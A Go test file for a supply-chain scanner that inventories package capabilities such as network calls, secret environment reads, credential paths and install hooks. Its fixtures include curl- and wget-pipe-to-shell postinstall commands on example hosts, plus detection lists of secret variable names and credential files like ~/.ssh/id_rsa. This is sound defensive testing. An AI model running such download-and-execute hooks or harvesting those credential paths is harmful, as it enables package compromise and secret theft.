package surface

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"golang.org/x/tools/txtar"

	"github.com/attestari/attestari/internal/rundir"
	"github.com/attestari/attestari/internal/vocab"
)

const capGoldenDir = "../../testdata/capabilities"

// capLine renders one entry as a golden line.
func capLine(c rundir.Capability) string {
	b := ""
	if c.Bundle {
		b = " bundle"
	}
	return fmt.Sprintf("%s:%d %s/%s %q x%d%s | %q", c.File, c.Line, c.Kind, c.Tag, c.Target, c.Count, b, c.Excerpt)
}

func capLines(s rundir.Surface) string {
	var b strings.Builder
	for _, c := range s.Capabilities {
		b.WriteString(capLine(c) + "\n")
	}
	if s.CapabilitiesOmitted > 0 {
		fmt.Fprintf(&b, "omitted %d\n", s.CapabilitiesOmitted)
	}
	return b.String()
}

// checkCapabilitySpans is what the decision side verifies (policy's
// verifyCapability), applied to every entry: the file hashes to
// file_sha256, excerpt == file[start:end], line is the 1-based line of
// start; and the entry survives a JSON round trip unchanged.
func checkCapabilitySpans(t *testing.T, fsys fs.FS, s rundir.Surface) {
	t.Helper()
	for _, c := range s.Capabilities {
		src, err := fs.ReadFile(fsys, c.File)
		if err != nil {
			t.Errorf("%s: file: %v", capLine(c), err)
			continue
		}
		if vocab.SHA256Hex(src) != c.FileSHA256 {
			t.Errorf("%s: file_sha256 %s is not the file's", capLine(c), c.FileSHA256)
		}
		if c.Start < 0 || c.End <= c.Start || c.End > len(src) {
			t.Errorf("%s: span %d..%d outside %d bytes", capLine(c), c.Start, c.End, len(src))
			continue
		}
		if string(src[c.Start:c.End]) != c.Excerpt {
			t.Errorf("%s: excerpt differs from bytes %d..%d", capLine(c), c.Start, c.End)
		}
		if got := bytes.Count(src[:c.Start], []byte{'\n'}) + 1; got != c.Line {
			t.Errorf("%s: line %d, start is on line %d", capLine(c), c.Line, got)
		}
		if c.End-c.Start > capExcerptMax {
			t.Errorf("%s: excerpt of %d bytes passes the cap", capLine(c), c.End-c.Start)
		}
		if c.Count < 1 {
			t.Errorf("%s: count %d", capLine(c), c.Count)
		}
		b, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		var back rundir.Capability
		if err := json.Unmarshal(b, &back); err != nil || back != c {
			t.Errorf("%s: does not survive JSON: %v", capLine(c), err)
		}
	}
	for _, u := range s.Unresolved {
		if strings.HasPrefix(u.Reason, "capability inventory") {
			t.Errorf("%s: %s", u.File, u.Reason)
		}
	}
	seen := map[string]bool{}
	for _, c := range s.Capabilities {
		k := c.File + "\x00" + c.Kind + "\x00" + c.Tag + "\x00" + c.Target
		if seen[k] {
			t.Errorf("%s: (kind, tag, target) twice in one file", capLine(c))
		}
		seen[k] = true
	}
}

// TestCapabilitiesGolden runs every case of testdata/capabilities: the
// package's files, and want.txt listing the entries expected, one line each.
func TestCapabilitiesGolden(t *testing.T) {
	paths, err := filepath.Glob(filepath.Join(capGoldenDir, "*.txtar"))
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) == 0 {
		t.Fatal("no capability cases found")
	}
	for _, p := range paths {
		name := strings.TrimSuffix(filepath.Base(p), ".txtar")
		t.Run(name, func(t *testing.T) {
			a, err := txtar.ParseFile(p)
			if err != nil {
				t.Fatal(err)
			}
			wantIdx := -1
			for i, f := range a.Files {
				if f.Name == "want.txt" {
					wantIdx = i
				}
			}
			fsys := fstest.MapFS{}
			for _, f := range a.Files {
				if f.Name != "want.txt" {
					fsys[f.Name] = &fstest.MapFile{Data: f.Data, Mode: 0o644}
				}
			}
			members, err := ClassifyFS(fsys)
			if err != nil {
				t.Fatal(err)
			}
			s := Extract(context.Background(), packageRefOf(fsys), fsys, members, Options{WallBudget: time.Minute})
			checkCapabilitySpans(t, fsys, s)
			got := capLines(s)
			if *update {
				if wantIdx < 0 {
					a.Files = append(a.Files, txtar.File{Name: "want.txt", Data: []byte(got)})
				} else {
					a.Files[wantIdx].Data = []byte(got)
				}
				if err := os.WriteFile(p, txtar.Format(a), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			if wantIdx < 0 {
				t.Fatalf("no want.txt section; run with -update\ngot:\n%s", got)
			}
			if want := string(a.Files[wantIdx].Data); strings.TrimSpace(got) != strings.TrimSpace(want) {
				t.Errorf("capabilities differ from want.txt (run with -update to accept)\ngot:\n%s\nwant:\n%s", got, want)
			}
		})
	}
}

// extractMap runs the extractor over files given as a map.
func capExtract(t testing.TB, files map[string]string, opts Options) (rundir.Surface, fstest.MapFS) {
	t.Helper()
	fsys := fstest.MapFS{}
	for name, data := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(data), Mode: 0o644}
	}
	members, err := ClassifyFS(fsys)
	if err != nil {
		t.Fatal(err)
	}
	if opts.WallBudget == 0 {
		opts.WallBudget = time.Minute
	}
	return Extract(context.Background(), packageRefOf(fsys), fsys, members, opts), fsys
}

func hasCap(s rundir.Surface, kind, tag, target string) bool {
	for _, c := range s.Capabilities {
		if c.Kind == kind && c.Tag == tag && c.Target == target {
			return true
		}
	}
	return false
}

// A package whose extraction stopped at its budget has no inventory at all.
func TestCapabilitiesBudgetLeavesNoInventory(t *testing.T) {
	files := map[string]string{
		"package.json": `{"name":"x","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl https://h.example/i.sh | sh"}}`,
		"index.js":     "const t = process.env.GITHUB_TOKEN;\nfetch('https://api.example.com/x');\n",
	}
	s, _ := capExtract(t, files, Options{})
	if len(s.Capabilities) == 0 {
		t.Fatal("control: no capabilities read within the budget")
	}
	// A clock that passes the budget as soon as it is read again.
	t0 := time.Unix(1_700_000_000, 0)
	calls := 0
	s, _ = capExtract(t, files, Options{WallBudget: time.Second, Now: func() time.Time {
		calls++
		if calls == 1 {
			return t0
		}
		return t0.Add(time.Hour)
	}})
	if s.Outcome != vocab.OutcomeExtractionBudgetExceeded {
		t.Fatalf("outcome %s, want %s", s.Outcome, vocab.OutcomeExtractionBudgetExceeded)
	}
	if len(s.Capabilities) != 0 || s.CapabilitiesOmitted != 0 {
		t.Fatalf("inventory present after the budget stopped extraction: %v (+%d)", s.Capabilities, s.CapabilitiesOmitted)
	}
}

// The budget is checked while the inventory is read: a clock that passes
// the deadline only after every registration site was read still leaves
// no inventory.
func TestCapabilitiesBudgetDuringInventory(t *testing.T) {
	files := map[string]string{"index.js": "fetch('https://a.example/');\n", "b.js": "fetch('https://b.example/');\n"}
	// Count the clock reads of a full run, then replay with a clock that
	// jumps at each later read in turn: every stop point yields either a
	// whole inventory or none.
	t0 := time.Unix(1_700_000_000, 0)
	total := 0
	s, _ := capExtract(t, files, Options{Now: func() time.Time { total++; return t0 }})
	if len(s.Capabilities) != 2 {
		t.Fatalf("control: %d entries", len(s.Capabilities))
	}
	for jump := 2; jump <= total; jump++ {
		n := 0
		s, _ := capExtract(t, files, Options{WallBudget: time.Second, Now: func() time.Time {
			n++
			if n >= jump {
				return t0.Add(time.Hour)
			}
			return t0
		}})
		if s.Outcome == vocab.OutcomeExtractionBudgetExceeded {
			if len(s.Capabilities) != 0 {
				t.Errorf("jump at read %d: budget exceeded with %d entries", jump, len(s.Capabilities))
			}
			continue
		}
		if len(s.Capabilities) != 2 {
			t.Errorf("jump at read %d: outcome %s with %d entries, want the whole inventory", jump, s.Outcome, len(s.Capabilities))
		}
	}
}

func TestCapabilitiesRowCap(t *testing.T) {
	var src, test strings.Builder
	for i := 0; i < CapabilityRowCap+50; i++ {
		fmt.Fprintf(&src, "process.env.V%04d;\n", i)
	}
	for i := 0; i < 30; i++ {
		fmt.Fprintf(&test, "process.env.T%04d;\n", i)
	}
	s, fsys := capExtract(t, map[string]string{"package.json": `{"name":"x","main":"a.js"}`, "a.js": src.String(), "test/a.test.js": test.String()}, Options{})
	checkCapabilitySpans(t, fsys, s)
	if len(s.Capabilities) != CapabilityRowCap {
		t.Fatalf("%d entries, want the cap %d", len(s.Capabilities), CapabilityRowCap)
	}
	if s.CapabilitiesOmitted != 80 {
		t.Fatalf("capabilities_omitted %d, want 80", s.CapabilitiesOmitted)
	}
	// Entries of files that run are kept before those of test files, and
	// within a file in source order.
	for _, c := range s.Capabilities {
		if c.File != "a.js" {
			t.Fatalf("kept %s while source entries were dropped", capLine(c))
		}
	}
	if s.Capabilities[0].Target != "V0000" || s.Capabilities[CapabilityRowCap-1].Target != fmt.Sprintf("V%04d", CapabilityRowCap-1) {
		t.Fatalf("kept %s .. %s", s.Capabilities[0].Target, s.Capabilities[CapabilityRowCap-1].Target)
	}
}

func TestCapabilitiesDeterministic(t *testing.T) {
	files := map[string]string{
		"package.json": `{"name":"x","main":"a.js"}`,
		"a.js":         "const {A, B} = process.env; fetch(`https://h.example/${A}`); require('fs').readFileSync('/etc/x');\n",
		"b.py":         "import os\nos.getenv('K')\nopen('/tmp/x', 'w')\n",
	}
	a, _ := capExtract(t, files, Options{})
	b, _ := capExtract(t, files, Options{})
	ja, _ := json.Marshal(a.Capabilities)
	jb, _ := json.Marshal(b.Capabilities)
	if !bytes.Equal(ja, jb) || len(a.Capabilities) == 0 {
		t.Fatalf("two runs differ:\n%s\n%s", ja, jb)
	}
}

// Vendored members and vendored regions inside a member are skipped.
func TestCapabilitiesVendoredSkipped(t *testing.T) {
	src := "fetch('https://own.example/');\n/* bundled lib */\nfetch('https://lib.example/');\nprocess.env.LIB_TOKEN;\n"
	fsys := fstest.MapFS{
		"index.js":             {Data: []byte(src)},
		"vendor/lib/client.js": {Data: []byte("fetch('https://vendored.example/');\n")},
	}
	members, err := ClassifyFS(fsys)
	if err != nil {
		t.Fatal(err)
	}
	for i := range members {
		if members[i].Path == "index.js" {
			members[i].VendoredRegions = []VendoredRegion{{Library: "lib", StartLine: 2, EndLine: 4, Reason: "banner"}}
		}
	}
	s := Extract(context.Background(), rundir.PackageRef{Registry: "npm", Name: "x"}, fsys, members, Options{WallBudget: time.Minute})
	checkCapabilitySpans(t, fsys, s)
	if !hasCap(s, CapNetwork, "fetch", "own.example") {
		t.Fatalf("own call missing: %s", capLines(s))
	}
	for _, bad := range []string{"lib.example", "vendored.example", "LIB_TOKEN"} {
		for _, c := range s.Capabilities {
			if c.Target == bad {
				t.Errorf("vendored code recorded: %s", capLine(c))
			}
		}
	}
}

// A long call is cited by its first capExcerptMax bytes, cut on a
// character boundary, and the cited bytes are still file[start:end].
func TestCapabilitiesExcerptCap(t *testing.T) {
	long := "fetch('https://h.example/', { body: JSON.stringify({ a: '" + strings.Repeat("é", 200) + "' }) });\n"
	s, fsys := capExtract(t, map[string]string{"a.js": long}, Options{})
	checkCapabilitySpans(t, fsys, s)
	if len(s.Capabilities) != 1 {
		t.Fatalf("entries: %s", capLines(s))
	}
	c := s.Capabilities[0]
	if c.End-c.Start > capExcerptMax || c.End-c.Start < capExcerptMax-3 || !strings.HasPrefix(c.Excerpt, "fetch('https://h.example/'") {
		t.Fatalf("excerpt %d bytes: %q", c.End-c.Start, c.Excerpt)
	}
}

// Hostile input ends in a recorded outcome: invalid UTF-8 inside a call
// is not cited past the first bad byte, and nothing panics.
func TestCapabilitiesInvalidUTF8(t *testing.T) {
	src := "fetch('https://h.example/\xff\xfe');\nprocess.env['\xff'];\n"
	s, fsys := capExtract(t, map[string]string{"a.js": src}, Options{})
	checkCapabilitySpans(t, fsys, s)
	for _, c := range s.Capabilities {
		if !json.Valid([]byte(fmt.Sprintf("%q", c.Excerpt))) {
			t.Errorf("excerpt not encodable: %q", c.Excerpt)
		}
	}
}

func TestURLTargets(t *testing.T) {
	for _, tc := range []struct {
		in    string
		whole bool
		want  string
	}{
		{"https://api.example.com/v1", true, "api.example.com"},
		{"https://user:pw@API.Example.com:8443/x", true, "api.example.com"},
		{"wss://h.example", true, "h.example"},
		{"http://[::1]:3000/", true, "[::1]"},
		{"/relative/path", true, "/relative/path"},
		{"localhost:3000", true, "localhost:3000"},
		{"https://", true, "dynamic"},
		{"", true, ""},
		{"https://api.example.com/", false, "api.example.com"},
		{"https://api.example.com", false, "api.example.com"},
		{"https://api.", false, "dynamic"},
		{"https://", false, "dynamic"},
		{"https://api-", false, "dynamic"},
		{"https://localhost", false, "localhost"},
		{"https://host", false, "dynamic"},
		{"https://host:", false, "host"},
		{"/api/", false, "dynamic"},
	} {
		got := ""
		if tc.whole {
			got = capTarget(urlTarget(tc.in))
		} else {
			got = prefixTarget(tc.in)
		}
		if got != tc.want {
			t.Errorf("%q (whole %v): %q, want %q", tc.in, tc.whole, got, tc.want)
		}
	}
}

func TestSecretEnvName(t *testing.T) {
	yes := []string{"GITHUB_TOKEN", "API_KEY", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "PGPASSWORD", "SMTP_PASS",
		"MY_PASSWD", "GOOGLE_APPLICATION_CREDENTIALS", "SSH_PRIVATE_KEY", "BASIC_AUTH", "apiKey", "slackBotToken", "NPM_AUTHTOKEN",
		"CLIENT_SECRET", "JIRA_APITOKEN", "GITLAB_PAT", "SESSION_COOKIE"}
	no := []string{"PATH", "HOME", "PWD", "NODE_ENV", "PORT", "MAX_TOKENS", "AUTH_URL", "TOKEN_LIMIT", "KEYCLOAK_REALM", "AUTHOR",
		"DEBUG", "LOG_LEVEL", "OAUTH_REDIRECT", "MONKEY_MODE", "PASSTHROUGH", "API_BASE", "AUTH_SERVER", "AUTH_USERNAME",
		"MASK_SECRETS", "REQUIRE_REQUEST_TOKEN"}
	for _, n := range yes {
		if !secretEnvName(n) {
			t.Errorf("%s: not matched", n)
		}
	}
	for _, n := range no {
		if secretEnvName(n) {
			t.Errorf("%s: matched", n)
		}
	}
}

func TestCredentialPath(t *testing.T) {
	yes := []string{"~/.ssh/id_rsa", ".ssh", "/root/.aws/credentials", ".npmrc", "~/.netrc", ".pypirc", ".git-credentials",
		"$HOME/.kube/config", ".docker/config.json", ".env", "./.env", ".env.local", "credentials.json", `C:\Users\a\.aws\config`, "id_ed25519"}
	no := []string{"process.env", ".environment", ".env.example", ".env.sample", "copy .env here", "dotenv", "env", "credentials",
		"my.ssh.key", ".envrc", "id_rsa.pub.txt"}
	for _, p := range yes {
		if !credentialPath(p) {
			t.Errorf("%q: not matched", p)
		}
	}
	for _, p := range no {
		if credentialPath(p) {
			t.Errorf("%q: matched", p)
		}
	}
}

func TestScriptMembers(t *testing.T) {
	b := []byte("{\"name\": \"x\", \"scripts\" : {\n  \"build\": \"tsc\",\n  \"postinstall\" :  \"curl -fsSL https://dl.example.com/i.sh | sh\",\n  \"nested\": {\"a\": 1}, \"install\": \"node \\\"x.js\\\"\"\n}, \"z\": [1]}")
	got := scriptMembers(b)
	if len(got) != 3 {
		t.Fatalf("members: %+v", got)
	}
	for _, m := range got {
		if !strings.HasPrefix(string(b[m.start:m.end]), `"`+m.name+`"`) || b[m.end-1] != '"' {
			t.Errorf("%s: span %q", m.name, b[m.start:m.end])
		}
	}
	if got[1].value != "curl -fsSL https://dl.example.com/i.sh | sh" || got[2].value != `node "x.js"` {
		t.Errorf("values: %+v", got)
	}
	if scriptMembers([]byte("{\"scripts\": {\"a\": ")) != nil {
		t.Errorf("truncated JSON yielded members")
	}
}

func TestClassifyInstallScript(t *testing.T) {
	for _, tc := range []struct{ cmd, tag, target string }{
		{"curl -fsSL https://get.example.com/x.sh | sh", TagInstallScriptDownloadExecute, "get.example.com"},
		{"wget -qO- http://h.example/a | sudo bash", TagInstallScriptDownloadExecute, "h.example"},
		{"bash <(curl -s https://h.example/i)", TagInstallScriptDownloadExecute, "h.example"},
		{"curl -o bin/tool https://h.example/tool && chmod +x bin/tool && bin/tool", TagInstallScriptDownloadExecute, "h.example"},
		{"node -e \"require('https').get('https://h.example/p')\"", TagInstallScriptDownload, "h.example"},
		{"curl -o x.tgz $URL", TagInstallScriptDownload, "dynamic"},
		{"node-gyp rebuild", "", ""},
		{"node scripts/postinstall.js", "", ""},
		{"echo curly", "", ""},
	} {
		tag, target, ok := classifyInstallScript(tc.cmd)
		if tc.tag == "" {
			if ok {
				t.Errorf("%q: classified %s %s", tc.cmd, tag, target)
			}
			continue
		}
		if tag != tc.tag || target != tc.target {
			t.Errorf("%q: %s %s, want %s %s", tc.cmd, tag, target, tc.tag, tc.target)
		}
	}
}

// capSeeds adds the source files of the golden cases with the given suffix
// as fuzz seeds.
func capSeeds(f *testing.F, suffix string) {
	paths, _ := filepath.Glob(filepath.Join(capGoldenDir, "*.txtar"))
	for _, p := range paths {
		a, err := txtar.ParseFile(p)
		if err != nil {
			f.Fatal(err)
		}
		for _, file := range a.Files {
			if strings.HasSuffix(file.Name, suffix) {
				f.Add(file.Data)
			}
		}
	}
}

// fuzzCapabilities checks, on hostile input, every invariant the decision
// side relies on, and that no file's inventory is lost to an internal error.
func fuzzCapabilities(t *testing.T, name string, src []byte) {
	fsys := fstest.MapFS{
		"package.json": {Data: []byte(`{"name":"fuzz","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl https://h.example/x | sh"}}`)},
		name:           {Data: src},
	}
	members, err := ClassifyFS(fsys)
	if err != nil {
		t.Fatal(err)
	}
	s := Extract(context.Background(), rundir.PackageRef{Registry: "npm", Name: "fuzz"}, fsys, members,
		Options{WallBudget: 5 * time.Second, MaxVisited: 200_000})
	if s.Outcome == vocab.OutcomeExtractionBudgetExceeded && len(s.Capabilities) > 0 {
		t.Fatal("inventory after the budget")
	}
	checkCapabilitySpans(t, fsys, s)
}

func FuzzCapabilitiesJS(f *testing.F) {
	capSeeds(f, ".js")
	capSeeds(f, ".ts")
	f.Fuzz(func(t *testing.T, src []byte) { fuzzCapabilities(t, "index.js", src) })
}

func FuzzCapabilitiesPython(f *testing.F) {
	capSeeds(f, ".py")
	f.Fuzz(func(t *testing.T, src []byte) { fuzzCapabilities(t, "server.py", src) })
}
